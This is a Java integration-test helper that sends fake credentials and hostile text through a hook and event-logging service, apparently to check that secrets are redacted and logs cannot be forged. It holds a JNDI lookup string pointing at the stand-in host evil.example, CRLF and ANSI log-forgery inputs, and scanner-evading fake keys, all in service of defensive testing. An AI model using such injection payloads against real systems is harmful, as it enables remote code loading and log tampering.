package dev.yagura.system;

import static java.time.Duration.ofSeconds;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;

/**
 * A day of a home whose events hold secrets and hostile text, with a backup, a dead letter and
 * someone who listens: what it leaves behind is looked at by {@link LockedHouseIT}.
 */
final class HostileDay {
  /** Put together here, so that no scanner of repositories takes them for real. */
  static final Map<String, String> SECRETS =
      Map.of(
          "anthropic", "sk-" + "ant-api03-" + "Zk3Qw9xLr7Tn5Vb1Mc8Pd2".repeat(3),
          "github", "gh" + "p_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
          "aws", "AK" + "IA" + "Q7Z3J5X2W8V6N4M1",
          "bearer", "q9".repeat(20),
          "password", "Tr0ub4dor-and-three",
          "private_key", "MIIEvQIBADANBgkqhkiG9w0" + "B".repeat(41),
          "token", "f00dfeedbeefcafe0123456789abcdef");

  private static final String CARRIER =
      "export KEY="
          + SECRETS.get("anthropic")
          + "\\n"
          + "git clone https://"
          + SECRETS.get("github")
          + "@github.com/o/r\\n"
          + "id "
          + SECRETS.get("aws")
          + "\\n"
          + "curl -H 'Authorization: Bearer "
          + SECRETS.get("bearer")
          + "'\\n"
          + "DB_PASSWORD="
          + SECRETS.get("password")
          + "\\n"
          + "-----BEGIN PRIVATE"
          + " KEY-----\\n"
          + SECRETS.get("private_key")
          + "\\n-----END PRIVATE"
          + " KEY-----\\n"
          + "CI_TOKEN="
          + SECRETS.get("token")
          + "\\n";

  /** What would forge a line or a command where people read logs. */
  private static final String FORGERY =
      "x\\n2026-01-01T00:00:00.000Z ERROR forged\\r\\n\\u001b[31m${jndi:ldap://evil.example/a} %s%n{}";

  private final Path home;
  private final Api api;
  private final HookFiles files;
  private final StringBuffer stream = new StringBuffer();

  HostileDay(Path home, Api api) throws IOException {
    this.home = home;
    this.api = api;
    this.files = HookFiles.below(home);
  }

  HookFiles files() {
    return files;
  }

  private void listen() throws IOException {
    HttpRequest request = request("/api/v1/events/stream").build();
    CompletableFuture<HttpResponse<Stream<String>>> lines =
        HttpClient.newHttpClient().sendAsync(request, HttpResponse.BodyHandlers.ofLines());
    Thread reader =
        new Thread(
            () -> {
              try {
                lines.join().body().forEach(line -> stream.append(line).append('\n'));
              } catch (RuntimeException e) {
                stream.append("\nended\n");
              }
            },
            "stream-reader");
    reader.setDaemon(true);
    reader.start();
    await().atMost(ofSeconds(10)).until(() -> stream.indexOf("event: hello") >= 0);
  }

  private HttpRequest.Builder request(String target) {
    return HttpRequest.newBuilder(URI.create(api.base() + target))
        .timeout(ofSeconds(60))
        .header("Authorization", "Bearer " + api.token())
        .header("Content-Type", "application/json");
  }

  private HttpResponse<String> post(String target, String body) throws Exception {
    return HttpClient.newHttpClient()
        .send(
            request(target).POST(HttpRequest.BodyPublishers.ofString(body)).build(),
            HttpResponse.BodyHandlers.ofString());
  }

  /** Everything that a day brings, with secrets in it. */
  void live() throws Exception {
    listen();
    Path transcripts = Files.createDirectories(home.resolve(".claude/projects/-p"));
    Files.writeString(
        transcripts.resolve("s-1.jsonl"),
        "{\"type\":\"assistant\",\"sessionId\":\"s-1\",\"uuid\":\"u1\",\"timestamp\":"
            + "\"2026-01-02T03:04:05.000Z\",\"message\":{\"id\":\"m1\",\"role\":\"assistant\","
            + "\"model\":\"claude-x\",\"stop_reason\":\"end_turn\",\"content\":[{\"type\":\"text\","
            + "\"text\":\""
            + CARRIER
            + "\"}],\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}}\n");
    files.prompt("s-1", CARRIER);
    String call =
        ",\"tool_name\":\"Bash\",\"tool_use_id\":\"t1\",\"tool_input\":{\"command\":\""
            + CARRIER
            + "\"}";
    files.write("PreToolUse", "s-1", call);
    files.write("PostToolUse", "s-1", call + ",\"tool_response\":{\"stdout\":\"" + CARRIER + "\"}");
    files.write("Stop", "s-1", ",\"last_assistant_message\":\"" + CARRIER + "\"");
    files.prompt("s-2", FORGERY);
    files.write("PreToolUse", "s-2", ",\"tool_name\":\"" + FORGERY + "\",\"tool_input\":{}");
    files.writeText(files.name("Stop", "s-3"), "{\"prompt\":\"" + CARRIER);
    assertThat(
            post(
                    "/api/v1/hooks",
                    HookFiles.payload("Notification", "s-1", ",\"message\":\"" + CARRIER + "\""))
                .statusCode())
        .isEqualTo(202);
    await()
        .atMost(ofSeconds(40))
        .until(
            () ->
                api.get("/api/v1/stats").get("last_seq").asInt() >= 7
                    && api.get("/api/v1/stats").get("dead_letters").asInt() == 1);
    await().atMost(ofSeconds(20)).until(() -> stream.toString().contains("\"last\":7"));
    assertThat(post("/api/v1/backups", "{\"file\":\"locked.db\"}").statusCode()).isEqualTo(200);
    for (String strange :
        List.of(
            "/api/v1/nothing%0a2026%1b%5b31m", "/api/v1/events?q=%0d%0aforged%1b", "/%0aforged")) {
      api.send(strange);
    }
  }

  String everythingTold() throws Exception {
    StringBuilder told = new StringBuilder(stream);
    for (JsonNode event : api.allEvents()) {
      String id = event.get("event_id").asText();
      told.append(api.send("/api/v1/events/" + id).body());
      told.append(api.send("/api/v1/events/" + id + "/raw").body());
    }
    for (String path :
        List.of(
            "events?limit=1000",
            "sessions?limit=1000",
            "sessions/s-1",
            "sessions/s-1/timeline",
            "sessions/s-1/trace.json",
            "sessions/s-1/responses",
            "sessions/s-1/export.md",
            "sessions/s-1/export.json",
            "dead-letters",
            "waiting",
            "facets",
            "costs?by=agent&format=csv",
            "metrics/snapshot")) {
      told.append(api.send("/api/v1/" + path).body());
    }
    return told.append(api.send("/metrics").body()).append(api.send("/health").body()).toString();
  }
}
